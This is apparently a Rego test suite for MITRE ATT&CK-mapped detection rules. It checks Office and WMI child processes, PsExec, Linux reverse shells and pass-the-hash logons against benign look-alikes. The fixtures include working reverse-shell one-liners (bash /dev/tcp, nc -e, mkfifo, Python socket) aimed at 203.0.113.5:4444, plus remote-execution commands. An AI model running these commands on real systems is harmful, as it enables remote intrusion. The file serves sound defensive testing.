package mitre_test

_winword := `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`

test_word_spawns_powershell if {
	ds := _detections(_proc(_powershell, "powershell.exe -c Get-Date", _winword))
	some d in ds
	d.technique == "T1204.002"
	d.tactic == "execution"
}

test_excel_spawns_certutil if {
	"T1204.002" in _found(_proc(`C:\Windows\System32\certutil.exe`, "certutil -hashfile a.bin", `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`))
}

test_word_spawns_print_spooler_helper_is_benign if {
	count(_found(_proc(`C:\Windows\splwow64.exe`, "splwow64.exe 8192", _winword))) == 0
}

test_wmic_process_call_create if {
	"T1047" in _found(_proc(`C:\Windows\System32\wbem\WMIC.exe`, `wmic /node:10.0.0.12 process call create "cmd.exe /c whoami > C:\out.txt"`, _cmd_exe))
}

test_wmic_process_list_is_benign if {
	count(_found(_proc(`C:\Windows\System32\wbem\WMIC.exe`, "wmic process list brief", _cmd_exe))) == 0
}

test_wmiprvse_spawns_powershell if {
	"T1047" in _found(_proc(_powershell, "powershell.exe -c Get-Process", `C:\Windows\System32\wbem\WmiPrvSE.exe`))
}

test_wmiprvse_spawns_msiexec_is_benign if {
	count(_found(_proc(`C:\Windows\System32\msiexec.exe`, "msiexec.exe /V", `C:\Windows\System32\wbem\WmiPrvSE.exe`))) == 0
}

test_invoke_wmimethod_create if {
	"T1047" in _found(_block("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'notepad.exe' -ComputerName srv2"))
}

test_psexesvc_child if {
	"T1569.002" in _found(_proc(_cmd_exe, "cmd.exe /c net localgroup", `C:\Windows\PSEXESVC.exe`))
}

test_psexec_remote if {
	"T1569.002" in _found(_proc(`C:\Tools\PsExec64.exe`, `PsExec64.exe \\srv-db01 -s cmd.exe`, _cmd_exe))
}

test_services_starting_svchost_is_benign if {
	count(_found(_proc(`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p`, `C:\Windows\System32\services.exe`))) == 0
}

test_bash_dev_tcp_reverse_shell if {
	ds := _detections(_proc("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "/usr/sbin/apache2"))
	some d in ds
	d.technique == "T1059.004"
	d.rule == "reverse_shell_dev_tcp"
}

test_netcat_exec_shell if {
	"T1059.004" in _found(_proc("/usr/bin/nc", "nc -e /bin/sh 203.0.113.5 4444", "/usr/bin/bash"))
}

test_netcat_port_check_is_benign if {
	count(_found(_proc("/usr/bin/nc", "nc -zv db.internal 5432", "/usr/bin/bash"))) == 0
}

test_mkfifo_shell if {
	"T1059.004" in _found(_proc("/usr/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f", "/usr/bin/python3"))
}

test_python_socket_shell if {
	"T1059.004" in _found(_proc("/usr/bin/python3", `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);import pty;pty.spawn("/bin/bash")'`, "/usr/bin/bash"))
}

test_python_http_server_is_benign if {
	count(_found(_proc("/usr/bin/python3", "python3 -m http.server 8000", "/usr/bin/bash"))) == 0
}

test_pass_the_hash_logon if {
	"T1550.002" in _found(_ev({"event": "authentication", "user": {"name": "administrator"}, "outcome": "success", "logon": {"type": "new_credentials"}, "authentication": {"method": "seclogo"}}))
}

test_interactive_logon_is_benign if {
	count(_found(_ev({"event": "authentication", "user": {"name": "alice"}, "outcome": "success", "logon": {"type": "interactive"}, "authentication": {"method": "User32"}}))) == 0
}

test_failed_new_credentials_logon_is_not_pass_the_hash if {
	count(_found(_ev({"event": "authentication", "user": {"name": "administrator"}, "outcome": "failure", "logon": {"type": "new_credentials"}, "authentication": {"method": "seclogo"}}))) == 0
}
